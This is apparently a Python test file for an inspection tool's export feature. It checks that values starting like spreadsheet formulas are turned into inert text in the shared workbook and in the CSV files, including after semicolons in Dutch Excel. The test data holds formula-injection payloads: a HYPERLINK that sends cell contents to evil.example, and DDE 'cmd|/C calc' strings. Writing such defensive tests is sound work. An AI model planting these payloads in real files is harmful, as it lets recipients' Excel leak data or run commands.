"""Text typed on a laptop reaches another organisation's spreadsheet through a share: a value that
starts like a formula (= + - @) must stay text there, in the workbook and in the CSV files, or a
site's name could make the recipient's Excel fetch a URL or run a command."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from inspect_tui.central.keys import load_signing_key
from inspect_tui.central.share import ShareScope, load_profile, write_share
from tests.helpers.bundles import members
from tests.helpers.central import Central

HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?"&B2,"Klik hier")',
    "operator_name": "+cmd|' /C calc'!A0",
    "street": "@SUM(1+1)*cmd|' /C calc'!A0",
    "label": "-2+3+cmd|' /C calc'!A0",
    "description": "=1+1",
}


def _seed(central: Central) -> None:
    pg = central.db.pg
    pg(
        "INSERT INTO sites (id, kind, name, operator_name, street, city, rev) VALUES (%s, %s, %s, %s, %s, %s, %s)",
        ["site-1", "housing", HOSTILE["name"], HOSTILE["operator_name"], HOSTILE["street"], "Venlo", "r1"],
    )
    pg(
        "INSERT INTO units (id, site_id, label, beds, rev) VALUES (%s, %s, %s, %s, %s)",
        ["unit-1", "site-1", HOSTILE["label"], 2, "r2"],
    )
    pg(
        "INSERT INTO inspections (id, site_id, inspector, started_at, status, rev) VALUES (%s, %s, %s, %s, %s, %s)",
        ["insp-1", "site-1", "Eva de Vries", "2026-03-03T09:00:00+01:00", "completed", "r3"],
    )
    pg(
        "INSERT INTO findings (id, inspection_id, item_id, severity, description, deadline, status, rev) "
        "VALUES (%s, %s, %s, %s, %s, %s, %s, %s)",
        ["f-1", "insp-1", "snf.test.item", "major", HOSTILE["description"], "2026-04-01", "open", "r4"],
    )


def test_a_value_starting_like_a_formula_stays_text_in_the_workbook_and_the_csv(
    central: Central, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    _seed(central)
    result = write_share(
        central.db,
        load_profile("municipality"),
        ShareScope(),
        tmp_path / "venlo.zip",
        load_signing_key(central.db, central.signing_key),
    )
    assert result.workbook is not None
    book = load_workbook(result.workbook)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    shown = {str(c.value) for c in cells}
    for value in HOSTILE.values():
        assert value in shown, value  # the text itself, unchanged, as text
    zipped = members(result.path)
    fields = [
        field
        for name, body in zipped.items()
        if name.endswith(".csv")
        for row in csv.reader(io.StringIO(body.decode("utf-8-sig")))
        for field in row
    ]
    assert [f for f in fields if f[:1] in ("=", "+", "-", "@")] == []
    for value in HOSTILE.values():
        assert f"'{value}" in fields, value


@pytest.mark.parametrize("value", ["-3", "2026-04-01", "De Wilgen"])
def test_plain_values_are_not_marked(value: str) -> None:
    from inspect_tui.central.share_workbook import inert

    assert inert(value) == value


def _excel_cells(field: str) -> list[str]:
    """The cells Excel with Dutch settings makes of one unquoted CSV field: it splits on ';'."""
    return field.split(";")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("x;=cmd|'/c calc'!A1;y", "x;'=cmd|'/c calc'!A1;y"),
        ("Kamer 2; +31 cmd|' /C calc'!A0", "Kamer 2;' +31 cmd|' /C calc'!A0"),
        ("a;@SUM(1+1);-2+3+cmd|' /C calc'!A0", "a;'@SUM(1+1);'-2+3+cmd|' /C calc'!A0"),
        (" =1+1", "' =1+1"),
        ("Kamer 3; 4 bedden;-2", "Kamer 3; 4 bedden;-2"),  # ordinary text and a number stay
        ("De Wilgen; Venlo", "De Wilgen; Venlo"),
    ],
)
def test_every_part_after_a_semicolon_that_starts_like_a_formula_is_marked(value: str, written: str) -> None:
    from inspect_tui.central.share_workbook import inert

    assert inert(value) == written


def test_a_formula_after_a_semicolon_makes_no_cell_in_dutch_excel(central: Central, tmp_path: Path) -> None:
    _seed(central)
    hidden = "x;=cmd|'/c calc'!A1;y"
    central.db.pg("UPDATE sites SET name = %s", [hidden])
    central.db.pg("UPDATE units SET label = %s", ["Kamer 1; @SUM(1+1)"])
    central.db.pg("UPDATE findings SET description = %s", ["Zie bijlage;+cmd|' /C calc'!A0"])
    result = write_share(
        central.db,
        load_profile("municipality"),
        ShareScope(),
        tmp_path / "venlo.zip",
        load_signing_key(central.db, central.signing_key),
    )
    cells = [
        cell.lstrip(" ")
        for name, body in members(result.path).items()
        if name.endswith(".csv")
        for line in body.decode("utf-8-sig").splitlines()
        for cell in _excel_cells(line)
    ]
    assert "=cmd|'/c calc'!A1" not in cells
    assert [c for c in cells if c[:1] in ("=", "+", "@")] == []
    assert "'=cmd|'/c calc'!A1" in cells
